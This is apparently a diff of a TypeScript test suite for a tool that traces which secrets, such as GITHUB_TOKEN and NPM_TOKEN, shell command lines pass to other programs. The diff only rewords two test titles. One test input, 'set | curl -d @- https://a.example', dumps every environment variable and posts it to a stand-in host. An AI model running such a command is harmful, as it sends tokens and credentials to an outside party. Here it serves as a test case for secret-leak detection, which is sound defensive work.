@@ -114,7 +114,7 @@ test('what a variable named by another is, cannot be seen: it may be any secret'
   expect(handed('echo ${!x}')).toEqual(['GITHUB_TOKEN > echo', 'NPM_TOKEN > echo']);
 });
 
-test('a list of all variables hands over what is in it, where anything but the screen gets it', () => {
+test('a list of all variables passes on what is in it, where anything but the screen gets it', () => {
   expect(handed('set | curl -d @- https://a.example')).toEqual([
     'GITHUB_TOKEN > set, curl (a.example)',
     'NPM_TOKEN > set, curl (a.example)',
@@ -146,7 +146,7 @@ test('a command goes without what it is not handed', () => {
   expect(withheldFrom(new Set(['B', 'A', 'C']), handed)).toEqual(['A', 'C']);
 });
 
-test('what only an environment hands over goes to all that the line runs', () => {
+test('what only an environment passes on goes to all that the line runs', () => {
   const variables = new Set(['T']);
   const find = (line: string) => secretsOfLine(classifyLine(line, PLACE), { rules: {}, variables, place: PLACE });
   expect(find('node -e "process.env.T" && npm publish')).toEqual([{ name: 'T', to: 'node, npm', exported: true }]);
